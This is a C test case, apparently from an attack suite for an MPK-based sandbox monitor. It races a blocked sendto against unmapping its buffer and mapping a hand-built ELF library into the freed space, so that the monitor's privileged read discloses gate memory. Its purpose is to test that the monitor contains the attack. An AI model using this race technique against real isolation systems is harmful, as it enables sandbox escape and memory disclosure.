/* attack
class: disclosure
aim: memory
policy: true
tries: "where the gate is, from stubs of a library that is mapped where a call that waits, with an address that was judged, will read"
expect: { mpk: contained }
options: ["-pthread"]
*/
/* A call with an address that policy judges is made with the monitor's rights, once its other memory was looked at. This one then waits for room, before it
   reads what it is to send. Meanwhile that memory is given up and a library is mapped there, with its stubs where the call will read. */
#include "attack.h"
#include <elf.h>
#include <pthread.h>
#include <stddef.h>
#include <sys/socket.h>
#include <sys/un.h>

enum { OBJECT = 8192, ROOM = 1 << 20, SENT = 4096, FILLER = 100000 };
static struct sockaddr_un to = {.sun_family = AF_UNIX, .sun_path = "there"};
static unsigned char *room;
static int sender;
static volatile long sent = -2;

static int make_library(void) {
    struct {
        Elf64_Ehdr header;
        Elf64_Phdr segments[2];
    } head = {{.e_ident = {0x7f, 'E', 'L', 'F', ELFCLASS64, ELFDATA2LSB, EV_CURRENT}, .e_type = ET_DYN, .e_machine = EM_X86_64, .e_version = EV_CURRENT,
               .e_phoff = sizeof(Elf64_Ehdr), .e_ehsize = sizeof(Elf64_Ehdr), .e_phentsize = sizeof(Elf64_Phdr), .e_phnum = 2},
              {{.p_type = PT_LOAD, .p_flags = PF_R, .p_filesz = 0x200, .p_memsz = 0x200, .p_align = 4096},
               {.p_type = PT_LOAD, .p_flags = PF_R | PF_X, .p_offset = 4096, .p_vaddr = 4096, .p_paddr = 4096, .p_filesz = 4096, .p_memsz = 4096, .p_align = 4096}}};
    static const unsigned char code[] = {0xb8, 39, 0, 0, 0, 0x0f, 0x05, 0xc3}; /* mov $getpid, %eax; syscall; ret */
    static unsigned char file[OBJECT];
    memset(file, 0x90, sizeof file);
    memcpy(file, &head, sizeof head);
    memcpy(file + 4096, code, sizeof code);
    int fd = open("library.so", O_RDWR | O_CREAT | O_TRUNC, 0755);
    if (write(fd, file, sizeof file) != sizeof file) not_here("a library could not be written");
    close(fd);
    return open("library.so", O_RDONLY);
}

static void *sends(void *unused) {
    sent = sendto(sender, room + OBJECT, SENT, 0, (struct sockaddr *)&to, sizeof to);
    return unused;
}

int main(void) {
    struct target t[64];
    read_targets(t, 64);
    int library = make_library(), receiver = socket(AF_UNIX, SOCK_DGRAM, 0), bare = t[0].own;
    sender = socket(AF_UNIX, SOCK_DGRAM, 0);
    if (bind(receiver, (struct sockaddr *)&to, sizeof to)) return 1;
    /* By now there is a copy, and a place for it. */
    munmap(mmap(NULL, OBJECT, PROT_READ, MAP_PRIVATE | MAP_DENYWRITE, library, 0), OBJECT);
    room = mmap(NULL, ROOM, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    memset(room, 'r', ROOM);
    static unsigned char filler[FILLER], got[FILLER];
    while (sendto(sender, filler, FILLER, MSG_DONTWAIT, (struct sockaddr *)&to, sizeof to) == FILLER) {}
    pthread_t thread;
    pthread_create(&thread, NULL, sends, NULL);
    usleep(1000000);
    munmap(room, ROOM);
    if (bare) {
        mmap(room + OBJECT, SENT, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
        memcpy(room + OBJECT, secret_pattern, sizeof secret_pattern);
    } else if (mmap(room, OBJECT, PROT_READ, MAP_PRIVATE | MAP_DENYWRITE, library, 0) != room) {
        not_here("the library lies elsewhere");
    }
    int escaped = 0;
    struct timeval limit = {5, 0};
    setsockopt(receiver, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    for (ssize_t n; !escaped && (n = recv(receiver, got, sizeof got, 0)) > 0;)
        for (ssize_t i = 0; n == SENT && i + 8 <= n; i++) {
            uint64_t word;
            memcpy(&word, got + i, 8);
            escaped |= bare ? memcmp(got, secret_pattern, sizeof secret_pattern) == 0 : word >= zone_from && word < zone_to;
        }
    pthread_join(thread, NULL);
    errno = sent < 0 ? EFAULT : 0;
    verdict(escaped);
}
